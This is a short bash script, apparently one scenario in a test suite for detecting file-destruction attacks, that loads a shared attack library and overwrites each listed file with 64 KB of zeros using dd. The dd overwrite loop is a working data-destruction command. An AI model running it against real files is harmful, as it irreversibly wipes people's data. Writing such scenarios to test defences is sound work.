#!/usr/bin/env bash
# Destruction with dd: each file truncated and replaced by 64 KB of zeros.
. "$(dirname "$0")/attack-lib.sh"
for f in "${FILES[@]}"; do
	time_left || break
	attempt dd if=/dev/zero of="$f" bs=64k count=1 status=none
done
